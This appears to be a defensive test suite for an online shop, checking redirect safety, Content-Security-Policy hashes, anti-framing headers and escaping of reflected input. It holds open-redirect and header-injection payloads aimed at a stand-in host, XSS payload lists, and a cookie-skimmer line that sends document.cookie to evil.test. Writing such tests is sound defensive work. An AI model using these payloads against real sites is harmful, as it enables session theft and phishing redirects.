import { createHash } from 'node:crypto'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { openPageShop, type PageShop } from './page-shop-suite.ts'

let shop: PageShop
beforeAll(async () => {
  vi.spyOn(console, 'warn').mockImplementation(() => undefined)
  vi.spyOn(console, 'error').mockImplementation(() => undefined)
  shop = await openPageShop()
})
beforeEach(() => shop.cache.clear())
afterEach(() => void shop.disturb(undefined))
afterAll(async () => {
  await shop.close()
  vi.restoreAllMocks()
})

const here = 'http://shop.test'

/** Addresses of other hosts, as attackers write them to redirect a shopper. */
const elsewhere = [
  '/evil.test',
  '//evil.test',
  '///evil.test',
  '\\evil.test',
  '/\\evil.test',
  '\\\\evil.test',
  '%5Cevil.test',
  '%5C%5Cevil.test',
  '%2Fevil.test',
  '%2F%2Fevil.test',
  '%252F%252Fevil.test',
  '%09/evil.test',
  '%0A/evil.test',
  '%0D%0ALocation:https://evil.test',
  '%0d%0aSet-Cookie:a=1',
  '%20//evil.test',
  '%00//evil.test',
  'https:/evil.test',
  'https://evil.test',
  'https:%5C%5Cevil.test',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java%0ascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  '@evil.test',
  '.evil.test',
  ';//evil.test',
  '?//evil.test',
  '..//evil.test',
  'x/..//evil.test',
  'x/%2e%2e//evil.test',
  '%E2%80%A8/evil.test',
  '%EF%BC%8F%EF%BC%8Fevil.test',
  '%E3%80%82evil.test',
  'evil%E3%80%82test',
  '%D1%82%D0%B5%D1%81%D1%82',
  '%C0%AF%C0%AFevil.test',
]

/**
 * Returns whether a browser with this location stays in the shop; browsers interpret backslashes
 * and tabs in their own way.
 */
const isHere = (location: string | undefined, from = '/') =>
  location === undefined || URL.parse(location, new URL(from, here))?.origin === here

describe('ATT-16: redirects stay in the shop', () => {
  // Every place where a page redirects: prefix of the default store, pages of other stores,
  // mapping, slugs, trailing parts.
  const sources = ['/et/', '/et//', '/', '//', '/en/', '/ru/', '/en/p/CABLE/', '/en/c/', '/meist/', '/en/et/']
  const suffixes = ['/', '.data', '?url=//evil.test&returnUrl=//evil.test&next=//evil.test']
  it.each(sources)('redirects from %s to the shop, whatever follows', async (source) => {
    const wrong: string[] = []
    for (const [index, tail] of elsewhere.entries())
      for (const suffix of ['', suffixes[index % suffixes.length] ?? '']) {
        const target = encodeTarget(source + tail + suffix)
        const { status, headers, body } = await shop.send(target)
        // The router reads redirects inside data and follows them unchanged.
        const inData = /"SingleFetchRedirect"[^\]]*?"(\/[^"]*)"/.exec(body.toString())?.[1]
        const isWrong = status >= 500 || headers['set-cookie'] || !isHere(headers.location, target)
        if (isWrong || !isHere(inData && JSON.parse(`"${inData}"`)))
          wrong.push(`${target} ${status} ${headers.location}`)
      }
    expect(wrong).toEqual([])
  })

  it.each(['category', 'product', 'cms_page'])(
    'redirects to the shop for a hostile %s of the URL map',
    async (type) => {
      const wrong: string[] = []
      for (const text of elsewhere.map(decoded)) {
        const source = { sku: text, slug: text, identifier: text, parentSku: text }
        shop.disturb({
          after: ({ name }, document) =>
            name === 'urlMap' ? { code: 200, result: { _type: type, _source: source } } : document,
        })
        const { headers } = await shop.send('/en/an-old-address')
        if (!isHere(headers.location, '/en/an-old-address')) wrong.push(`${text}: ${headers.location}`)
      }
      expect(wrong).toEqual([])
    },
  )

  it('redirects to the shop after a form was submitted', async () => {
    for (const path of ['/en/newsletter', '//evil.test/newsletter', '/et//evil.test']) {
      const { headers } = await shop.send(path, { method: 'POST', headers: { origin: 'https://evil.test' } })
      expect(isHere(headers.location)).toBe(true)
    }
  })

  it('redirects to the shop when a payment provider sends the browser back', async () => {
    for (const path of ['/api/neopay/return', '/api/mokilizingas/return'])
      for (const name of ['returnUrl', 'url', 'token', 'data', 'appl_token', 'order_id', 'status_url']) {
        const { headers } = await shop.send(`${path}?${name}=//evil.test`)
        expect(isHere(headers.location)).toBe(true)
      }
  })

  it('keeps the campaign parameters of a redirect', async () => {
    const { status, headers } = await shop.send('/en/p/CABLE/old-name?utm_source=mail')
    expect([status, headers.location]).toEqual([301, '/en/p/CABLE/cable?utm_source=mail'])
  })
})

/** Encodes characters that a request line cannot hold, as a browser would. */
const encodeTarget = (target: string) => target.replace(/[\s<>"]/g, (sign) => encodeURIComponent(sign))

function decoded(text: string): string {
  try {
    return decodeURIComponent(text)
  } catch {
    return text
  }
}

const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`
const policyOf = (headers: Record<string, unknown>) => String(headers['content-security-policy'])
const inlineScripts = (html: string) =>
  [...html.matchAll(/<script(?![^>]*(?:ld\+json|src=))[^>]*>([\s\S]*?)<\/script>/g)].map(
    ([, code = '']) => code,
  )

/**
 * Returns elements and attributes that no page of the shop has; inside its own scripts and values
 * they are text.
 */
function foreignTags(html: string): string[] {
  const tags = html.replace(/<script[^>]*>[\s\S]*?<\/script>/g, '').match(/<[!a-z/][^>]*>?/gi) ?? []
  return tags.filter((tag) => {
    const names = tag.replace(/="[^"]*"/g, '=""')
    const isForeign = /^<(?:!--(?![/$&]|.?-->)|mglyph|math|svg\/|script)|\son\w+\s*=|=(?!"")/i.test(names)
    return isForeign || /\s(?:href|src|action|formaction)="\s*(?:javascript|data|vbscript):/i.test(tag)
  })
}

const pages = [
  '/en',
  '/en/c/phones',
  '/en/p/CABLE/cable',
  '/en/about-us',
  '/en/checkout',
  '/en/nothing',
  '/en/error',
]

describe('ATT-23: injected code', () => {
  const skimmer = 'fetch("//evil.test/"+document.cookie)'

  it.each(pages)('allows exactly the inline code of the page %s in its policy', async (page) => {
    const { headers, body } = await shop.send(page)
    const scripts = inlineScripts(body.toString())
    expect(scripts.length).toBeGreaterThan(3)
    const named = /script-src ([^;]*)/.exec(policyOf(headers))?.[1]?.split(' ') ?? []
    expect(new Set(named)).toEqual(new Set(["'self'", ...scripts.map(hashOf)]))
    const [style = ''] = /(?<=<style[^>]*>)[\s\S]*?(?=<\/style>)/.exec(body.toString()) ?? []
    expect(policyOf(headers)).toContain(`style-src 'self' ${hashOf(style)};`)
  })

  it.each([
    ['a page of content', '/en/about-us', 'content'],
    ['a description', '/en/p/CABLE/cable', 'description'],
  ])('allows no injected code in %s, even without a sanitizer', async (_what, page, field) => {
    const html = `<p>x</p><script>${skimmer}</script><style>${skimmer}</style>`
    shop.disturb({ after: (_call, document) => withField(document, field, html) })
    const { headers, body } = await shop.send(page)
    expect(body.toString()).toContain(`<script>${skimmer}</script>`)
    expect(policyOf(headers)).not.toContain(hashOf(skimmer))
    // The shop's own scripts still run.
    expect(policyOf(headers).match(/'sha256-/g)?.length).toBeGreaterThan(4)
  })
})

/** Returns the document with this field of every object replaced. */
function withField(document: unknown, field: string, html: string): unknown {
  return JSON.parse(JSON.stringify(document), (key, value) =>
    key === field && typeof value === 'string' ? html : value,
  )
}

describe('ATT-18: framing', () => {
  it.each([...pages, '/en/order-completed', '/en/my-account'])('forbids framing of %s', async (page) => {
    const { headers } = await shop.send(page)
    expect(policyOf(headers)).toContain("frame-ancestors 'none'")
  })
})

describe('ATT-4: reflected input', () => {
  const payloads = [
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    '</title><script>alert(1)</script>',
    '</script><script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"onmouseover="alert(1)',
    '<!--<script>',
    ']]><script>alert(1)</script>',
    '\u2028alert(1)',
    '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)}',
    'javascript:alert(1)',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '<svg/onload=alert(1)>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ]
  it.each([
    (text: string) => `/en/search?q=${text}`,
    (text: string) => `/en/compare?items=${text}`,
    (text: string) => `/en/${text}`,
    (text: string) => `/en/c/${text}`,
    (text: string) => `/en/p/${text}/${text}`,
    (text: string) => `/en/i/${text}`,
    (text: string) => `/en/c/phones?${text}=${text}&sort=${text}&price=${text}&color=${text}`,
    (text: string) => `/en/offline?to=${text}`,
    (text: string) => `/en/newsletter/${text}/${text}`,
    (text: string) => `/en/search/suggest?q=${text}`,
  ])('renders reflected input as text: %s', async (addressOf) => {
    const wrong: unknown[] = []
    for (const payload of payloads) {
      const target = addressOf(encodeURIComponent(payload))
      const { headers, body, status } = await shop.send(target)
      if (status >= 500) wrong.push(`${target}: ${status}`)
      if (!String(headers['content-type']).startsWith('text/html')) continue
      const html = body.toString()
      const unnamed = inlineScripts(html).filter((code) => !policyOf(headers).includes(hashOf(code)))
      wrong.push(...unnamed, ...foreignTags(html))
    }
    expect(wrong).toEqual([])
  })
})
